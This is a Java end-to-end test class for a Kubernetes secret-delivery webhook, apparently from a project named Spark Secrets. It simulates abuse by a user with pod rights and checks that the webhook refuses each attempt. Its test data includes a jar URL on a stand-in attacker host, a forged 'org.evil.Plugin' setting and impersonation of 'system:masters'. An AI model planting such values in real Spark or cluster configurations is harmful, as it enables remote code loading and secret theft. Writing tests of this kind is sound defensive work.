package io.sparksecrets.e2e;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import io.fabric8.kubernetes.api.model.ConfigMap;
import io.fabric8.kubernetes.api.model.HasMetadata;
import io.fabric8.kubernetes.api.model.Pod;
import io.fabric8.kubernetes.api.model.Quantity;
import io.fabric8.kubernetes.api.model.ResourceQuotaBuilder;
import io.fabric8.kubernetes.api.model.SecretBuilder;
import io.fabric8.kubernetes.api.model.rbac.RoleBindingBuilder;
import io.fabric8.kubernetes.api.model.rbac.RoleBuilder;
import io.fabric8.kubernetes.client.ConfigBuilder;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.fabric8.kubernetes.client.KubernetesClientBuilder;
import io.fabric8.kubernetes.client.KubernetesClientException;
import io.fabric8.kubernetes.client.utils.Serialization;
import io.fabric8.zjsonpatch.JsonPatch;
import io.sparksecrets.e2e.webhook.Webhook;
import io.sparksecrets.testing.Waiting;
import java.net.HttpURLConnection;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import tools.jackson.databind.json.JsonMapper;

/** What somebody with the right to create pods and ConfigMaps might try, by hand and not through Spark. */
@EndToEndTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@SuppressWarnings("NullAway.Init")
class AbuseIT {

    private static final String NAMESPACE = "abuse";
    private static final String WITHOUT_SECRETS = "abuse-without-secrets";
    private static final String ANNOTATION = "sparksecrets.io/delivery";

    private KubernetesClient client;
    private Webhook webhook;
    private Secrets secrets;

    @BeforeAll
    void createNamespace(Installation installation) throws Exception {
        client = installation.client();
        webhook = installation.webhook();
        secrets = new Secrets(webhook).put("ABUSE_KEY").put("finance/ABUSE_KEY");
        installation.createNamespace(NAMESPACE);
        installation.createNamespace(WITHOUT_SECRETS);
    }

    @Test
    void anAnnotationThatWasWrittenByHandCreatesNothing() {
        assertRefused(
                pod(
                        "handwritten",
                        Map.of(
                                ANNOTATION,
                                "{\"secret\": \"mine\", \"request\": \"1\", \"entries\": {\"reference-0\": \"${secrets.ABUSE_KEY}\"}}")),
                "annotation " + ANNOTATION,
                "was not written by Spark Secrets for this pod");
        assertThat(secretNames()).doesNotContain("mine");
    }

    @Test
    void anAnnotationThatWasCopiedFromAnotherPodCreatesNothing() {
        Pod original = client.resource(driver("original", "spark-drv-original-conf-map"))
                .create();
        List<String> before = secretNames();

        assertRefused(
                driver("copy", "spark-drv-original-conf-map")
                        .edit()
                        .editMetadata()
                        .withAnnotations(original.getMetadata().getAnnotations())
                        .endMetadata()
                        .build(),
                "annotation " + ANNOTATION);
        assertThat(secretNames()).isEqualTo(before);
    }

    @Test
    void aConfMapThatNamesSomebodyElsesPodAsItsOwnerIsRefused() {
        Pod victim =
                client.resource(driver("victim", "spark-drv-victim-conf-map")).create();
        List<String> before = secretNames();

        assertRefused(
                confMap(
                        "spark-drv-attacker-conf-map",
                        "victim",
                        victim.getMetadata().getUid()),
                "pod victim does not take its conf from this conf map");
        assertRefused(
                confMap("spark-drv-victim-conf-map", "victim", "11111111-2222-3333-4444-555555555555"),
                "there is no pod victim with the UID 11111111-2222-3333-4444-555555555555");
        assertThat(secretNames()).isEqualTo(before);
    }

    @Test
    void onDryRunNothingIsCreated() {
        Pod driver = client.resource(driver("rehearsed", "spark-drv-rehearsed-conf-map"))
                .create();
        List<String> before = secretNames();

        client.resource(confMap(
                        "spark-drv-rehearsed-conf-map",
                        "rehearsed",
                        driver.getMetadata().getUid()))
                .dryRun()
                .create();

        assertThat(secretNames()).isEqualTo(before);
    }

    @Test
    void aDeliverySecretCannotBeMadeBeforehandByWhoReadsItsNameOnThePod() throws Exception {
        Pod driver =
                client.resource(driver("awaited", "spark-drv-awaited-conf-map")).create();

        assertRefused(
                new SecretBuilder()
                        .withNewMetadata()
                        .withNamespace(NAMESPACE)
                        .withName(deliverySecret(driver))
                        .endMetadata()
                        .addToStringData("spark.properties", "spark.jars=https://attacker.example/x.jar\n")
                        .build(),
                "only Spark Secrets makes a Secret of this name");

        client.resource(confMap(
                        "spark-drv-awaited-conf-map",
                        "awaited",
                        driver.getMetadata().getUid()))
                .create();
        Waiting.until(
                "the delivery Secret",
                Duration.ofMinutes(1),
                () -> secretNames().contains(deliverySecret(driver)));
    }

    @Test
    void aForgedConfMapDoesNotBecomeTheConfOfSomebodyElsesDriver() throws Exception {
        Pod victim = client.resource(driver("hijacked", "spark-drv-hijacked-conf-map"))
                .create();
        ConfigMap forged = confMap(
                "spark-drv-hijacked-conf-map", "hijacked", victim.getMetadata().getUid());
        forged.getData().put("spark.properties", "spark.plugins=org.evil.Plugin\n");
        String administrator = client.getConfiguration().getUsername();

        String answer = webhook.post("validate", review(forged, String.valueOf(administrator)));
        Thread.sleep(1_000);
        assertThat(secretNames()).as(answer).doesNotContain(deliverySecret(victim));

        try (KubernetesClient mallory = new KubernetesClientBuilder()
                .withConfig(new ConfigBuilder(client.getConfiguration())
                        .withImpersonateUsername("mallory-of-the-team")
                        .withImpersonateGroups("system:masters")
                        .build())
                .build()) {
            assertThatExceptionOfType(KubernetesClientException.class)
                    .isThrownBy(() -> mallory.resource(forged).create())
                    .withMessageContaining("another user created the driver pod hijacked");
        }

        client.resource(confMap(
                        "spark-drv-hijacked-conf-map",
                        "hijacked",
                        victim.getMetadata().getUid()))
                .create();
        Waiting.until(
                "the delivery Secret",
                Duration.ofMinutes(1),
                () -> secretNames().contains(deliverySecret(victim)));
        String conf = new String(
                Base64.getDecoder()
                        .decode(client.secrets()
                                .inNamespace(NAMESPACE)
                                .withName(deliverySecret(victim))
                                .require()
                                .getData()
                                .get("spark.properties")),
                StandardCharsets.UTF_8);
        assertThat(conf.contains("spark.hadoop.key=")).as("the genuine conf").isTrue();
        assertThat(conf.contains("spark.plugins")).as("the forged conf").isFalse();
    }

    @Test
    void aQuotaThatAllowsNoSecretIsToldToWhoSubmits() {
        client.resource(new ResourceQuotaBuilder()
                        .withNewMetadata()
                        .withNamespace(WITHOUT_SECRETS)
                        .withName("no-secrets")
                        .endMetadata()
                        .withNewSpec()
                        .addToHard("secrets", new Quantity("0"))
                        .endSpec()
                        .build())
                .create();
        client.resourceQuotas()
                .inNamespace(WITHOUT_SECRETS)
                .withName("no-secrets")
                .waitUntilCondition(
                        quota -> quota != null
                                && quota.getStatus() != null
                                && quota.getStatus().getHard() != null
                                && quota.getStatus().getHard().containsKey("secrets"),
                        1,
                        TimeUnit.MINUTES);
        String why = "kubectl describe quota --namespace " + WITHOUT_SECRETS;
        Pod driver = client.resource(DriverPods.driver(WITHOUT_SECRETS, "poor", "spark-drv-poor-conf-map", "ABUSE_KEY"))
                .create();

        assertRefused(DriverPods.confMap(WITHOUT_SECRETS, "spark-drv-poor-conf-map", driver, "ABUSE_KEY"), why);
        assertRefused(DriverPods.pod(WITHOUT_SECRETS, "notebook", Map.of(), "ABUSE_KEY"), why);
    }

    @Test
    void nothingIsSaidOfSecretsForANamespaceThatDoesNotTakePart() throws Exception {
        for (String secret : List.of("ABUSE_KEY", "MISSING_KEY")) {
            Pod invented = DriverPods.pod("default", "invented", Map.of(), secret)
                    .edit()
                    .editMetadata()
                    .withUid("11111111-2222-3333-4444-555555555555")
                    .endMetadata()
                    .build();

            String answer = webhook.post("validate", review(invented).replace("\"abuse\"", "\"default\""));

            assertThat(answer).contains("default does not take part").doesNotContain(secret);
        }
    }

    @Test
    void whoMayCreatePodsButNotReadSecretsReadsNoForbiddenSecretThroughAPodAndNoDeliverySecret() throws Exception {
        client.resource(new RoleBuilder()
                        .withNewMetadata()
                        .withNamespace(NAMESPACE)
                        .withName("creates-pods")
                        .endMetadata()
                        .addNewRule()
                        .withApiGroups("")
                        .withResources("pods", "configmaps")
                        .withVerbs("create", "get")
                        .endRule()
                        .build())
                .create();
        client.resource(new RoleBindingBuilder()
                        .withNewMetadata()
                        .withNamespace(NAMESPACE)
                        .withName("mallory")
                        .endMetadata()
                        .withNewRoleRef("rbac.authorization.k8s.io", "Role", "creates-pods")
                        .addNewSubject("rbac.authorization.k8s.io", "User", "mallory", null)
                        .build())
                .create();
        try (KubernetesClient mallory = new KubernetesClientBuilder()
                .withConfig(new ConfigBuilder(client.getConfiguration())
                        .withImpersonateUsername("mallory")
                        .build())
                .build()) {
            assertThatExceptionOfType(KubernetesClientException.class)
                    .isThrownBy(
                            () -> mallory.resource(DriverPods.pod(NAMESPACE, "greedy", Map.of(), "finance/ABUSE_KEY"))
                                    .create())
                    .withMessageContaining("finance/ABUSE_KEY");

            Pod allowed = mallory.resource(pod("modest", Map.of())).create();
            Waiting.until(
                    "the delivery Secret",
                    Duration.ofMinutes(1),
                    () -> secretNames().contains(deliverySecret(allowed)));
            assertThatExceptionOfType(KubernetesClientException.class)
                    .isThrownBy(() -> mallory.secrets()
                            .inNamespace(NAMESPACE)
                            .withName(deliverySecret(allowed))
                            .get())
                    .satisfies(refusal -> assertThat(refusal.getCode()).isEqualTo(HttpURLConnection.HTTP_FORBIDDEN));
            assertThat(secrets.in(Serialization.asJson(allowed))).isEmpty();
        }
    }

    @Test
    void aReviewThatIsPostedStraightToThePortTellsNoValueAndLeavesNoSecret() throws Exception {
        List<String> before = secretNames();
        Pod invented = pod("invented", Map.of())
                .edit()
                .editMetadata()
                .withUid("11111111-2222-3333-4444-555555555555")
                .endMetadata()
                .build();

        String mutated = webhook.post("mutate", review(invented));
        String patch = new String(
                Base64.getDecoder()
                        .decode(JsonMapper.shared()
                                .readTree(mutated)
                                .at("/response/patch")
                                .asString()),
                StandardCharsets.UTF_8);
        Pod annotated = Serialization.unmarshal(
                JsonPatch.apply(
                                JsonMapper.shared().readTree(patch),
                                JsonMapper.shared().readTree(Serialization.asJson(invented)))
                        .toString(),
                Pod.class);
        String validated = webhook.post("validate", review(annotated));
        String handwritten = webhook.post(
                "validate",
                review(pod(
                        "handwritten",
                        Map.of(ANNOTATION, "{\"secret\": \"mine\", \"request\": \"1\", \"entries\": {}}"))));

        assertThat(JsonMapper.shared()
                        .readTree(validated)
                        .at("/response/allowed")
                        .asBoolean())
                .as(validated)
                .isTrue();
        assertThat(JsonMapper.shared()
                        .readTree(handwritten)
                        .at("/response/allowed")
                        .asBoolean())
                .as(handwritten)
                .isFalse();
        assertThat(secrets.in(mutated + patch + validated + handwritten)).isEmpty();
        assertThat(secretNames())
                .as("a pod that is not stored gets no delivery Secret")
                .isEqualTo(before);
    }

    private void assertRefused(HasMetadata object, String... inMessage) {
        assertThatExceptionOfType(KubernetesClientException.class)
                .isThrownBy(() -> client.resource(object).create())
                .satisfies(refusal -> assertThat(refusal.getCode()).isEqualTo(HttpURLConnection.HTTP_FORBIDDEN))
                .satisfies(refusal -> assertThat(refusal).hasMessageContainingAll(inMessage));
    }

    /** What the API server would send for the creation of a pod. */
    private String review(Pod pod) {
        return """
                {"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": {
                  "uid": "705ab4f5-6393-11e8-b7cc-42010a800002", "operation": "CREATE", "dryRun": false,
                  "kind": {"group": "", "version": "v1", "kind": "Pod"},
                  "resource": {"group": "", "version": "v1", "resource": "pods"},
                  "namespace": "%s", "name": "%s", "userInfo": {"username": "mallory"}, "object": %s}}
                """.formatted(NAMESPACE, pod.getMetadata().getName(), Serialization.asJson(pod));
    }

    private String review(ConfigMap confMap, String username) {
        return """
                {"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": {
                  "uid": "705ab4f5-6393-11e8-b7cc-42010a800003", "operation": "CREATE", "dryRun": false,
                  "kind": {"group": "", "version": "v1", "kind": "ConfigMap"},
                  "resource": {"group": "", "version": "v1", "resource": "configmaps"},
                  "namespace": "%s", "name": "%s", "userInfo": {"username": "%s"}, "object": %s}}
                """.formatted(NAMESPACE, confMap.getMetadata().getName(), username, Serialization.asJson(confMap));
    }

    /** The name that the annotation of a pod tells. */
    private static String deliverySecret(Pod pod) {
        return JsonMapper.shared()
                .readTree(pod.getMetadata().getAnnotations().get(ANNOTATION))
                .path("secret")
                .asString();
    }

    private List<String> secretNames() {
        return client.secrets().inNamespace(NAMESPACE).list().getItems().stream()
                .map(secret -> secret.getMetadata().getName())
                .toList();
    }

    private static Pod pod(String name, Map<String, String> annotations) {
        return DriverPods.pod(NAMESPACE, name, annotations, "ABUSE_KEY");
    }

    private static Pod driver(String name, String confMap) {
        return DriverPods.driver(NAMESPACE, name, confMap, "ABUSE_KEY");
    }

    private static ConfigMap confMap(String name, String owner, String uid) {
        return DriverPods.confMap(NAMESPACE, name, owner, uid, "ABUSE_KEY");
    }
}
